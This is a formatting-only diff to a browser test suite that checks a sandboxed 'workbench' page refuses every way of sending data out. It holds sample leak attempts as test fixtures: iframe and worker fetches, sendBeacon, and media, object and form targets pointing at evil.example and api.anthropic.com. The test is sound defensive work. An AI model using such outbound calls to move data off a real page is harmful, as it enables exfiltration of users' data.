@@ -32,7 +32,9 @@ test("the workbench is sealed: every way out is refused, and no server sees a th
             request.send();
           }),
       ),
-      frame: await answer(() => document.getElementById("valve").contentWindow.fetch("https://api.anthropic.com/frame-leak")),
+      frame: await answer(() =>
+        document.getElementById("valve").contentWindow.fetch("https://api.anthropic.com/frame-leak"),
+      ),
       worker: await answer(() => new Worker("./worker-leak.js")),
     };
     navigator.sendBeacon(`${own}?beacon-leak`, "leak");
@@ -57,7 +59,10 @@ test("the workbench is sealed: every way out is refused, and no server sees a th
     add("video", { src: "https://evil.example/video-leak.mp4" });
     add("object", { data: "https://evil.example/object-leak" });
     document.getElementById("valve").src = "https://evil.example/valve-leak";
-    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/form-leak", method: "post" });
+    const form = Object.assign(document.createElement("form"), {
+      action: "https://evil.example/form-leak",
+      method: "post",
+    });
     document.body.append(form);
     form.submit();
     await new Promise((done) => setTimeout(done, 700));
@@ -81,7 +86,12 @@ test("its worker is sealed too", async (bench) => {
   const said = await workers[0].evaluate(async (own) => {
     const answers = [];
     for (const url of [`${own}?worker-leak`, "https://api.anthropic.com/worker-leak"]) {
-      answers.push(await fetch(url).then(() => "open", (error) => error.name));
+      answers.push(
+        await fetch(url).then(
+          () => "open",
+          (error) => error.name,
+        ),
+      );
     }
     return answers;
   }, site.url);
@@ -123,6 +133,9 @@ test("no request leaves before Send: the browser's own log", async () => {
   // Chromium's own errands (updates, sign-in, form hints) go to its maker's hosts, of which none is a provider's.
   const maker = /^https?:\/\/(?!generativelanguage)[\w-]+\.(clients\.)?(google|googleapis|gvt1)\.com\//;
   const elsewhere = urls.filter((url) => /^(https?|wss?):/.test(url) && !url.startsWith(site.url) && !maker.test(url));
-  assert.ok(urls.some((url) => url.startsWith(site.url)), "the log holds the page's own loading");
+  assert.ok(
+    urls.some((url) => url.startsWith(site.url)),
+    "the log holds the page's own loading",
+  );
   assert.deepEqual(elsewhere, []);
 });
